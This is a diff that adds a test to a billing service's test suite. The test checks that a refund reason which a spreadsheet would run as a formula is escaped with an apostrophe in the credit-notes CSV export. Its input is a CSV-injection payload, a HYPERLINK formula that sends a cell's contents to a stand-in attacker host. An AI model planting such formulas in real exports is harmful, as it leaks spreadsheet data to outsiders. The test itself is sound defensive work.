@@ -10,7 +10,7 @@ import csv
 import io
 from collections import defaultdict
 from collections.abc import AsyncIterator
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import httpx
@@ -460,3 +460,41 @@ async def test_a_months_exports_net_its_credit_notes_rule_crn_1_tax_1(
     for slug, rows in expected.items():
         report = list(csv.DictReader(io.StringIO(seen[slug]["tax-report"])))
         assert [tuple(r[f] for f in figures) for r in report] == rows
+
+
+async def test_a_text_cell_a_spreadsheet_would_run_is_escaped_rule_crn_1(
+    client: httpx.AsyncClient, gql: GraphQLClient, database: str
+) -> None:
+    """A refund's reason is a caller's text: one a spreadsheet would run as a formula is written
+    with a leading apostrophe; the amounts stay numbers (CSV injection)."""
+    organization, owner = await organization_with(
+        [{"product": "email", "plan": "email-1000"}],
+        period=(SEEDED_AT - timedelta(days=10), SEEDED_AT + timedelta(days=21)),
+    )
+    preview = await gql(
+        PREVIEW, {"input": {"product": "email", "plan": "email-1500"}}, as_user=owner
+    )
+    due = preview["data"]["previewPlanChange"]["amountDueNow"]["amount"]
+    changed = await gql(
+        CHANGE, {"input": {"product": "email", "plan": "email-1500"}, "confirm": due}, as_user=owner
+    )
+    assert changed["data"]["changePlan"]["__typename"] == "PlanChangeApplied", changed
+    invoice = await Invoice.get(organization_id=organization.id)
+    key = await create_api_key(organization.slug, "support", ["billing:refund"], SEEDED_AT)
+    reason = '=HYPERLINK("http://attacker.test/?"&A1,"Open")'
+    refunded = await client.post(
+        "/graphql",
+        json=trusted_request(
+            "RefundInvoice", {"invoiceId": str(invoice.id), "amount": 100, "reason": reason}
+        ),
+        headers={"Authorization": f"Bearer {key}"},
+    )
+    assert refunded.json()["data"]["refundInvoice"]["__typename"] == "InvoiceRefunded"
+    month = invoice.issued_at.strftime("%Y-%m")
+    owner_headers = await bearer(owner)
+    notes = await _csv(
+        client,
+        f"/exports/credit-notes.csv?month={month}&organization={organization.slug}",
+        owner_headers,
+    )
+    assert [(row["reason"], row["total"]) for row in notes] == [("'" + reason, "100")]
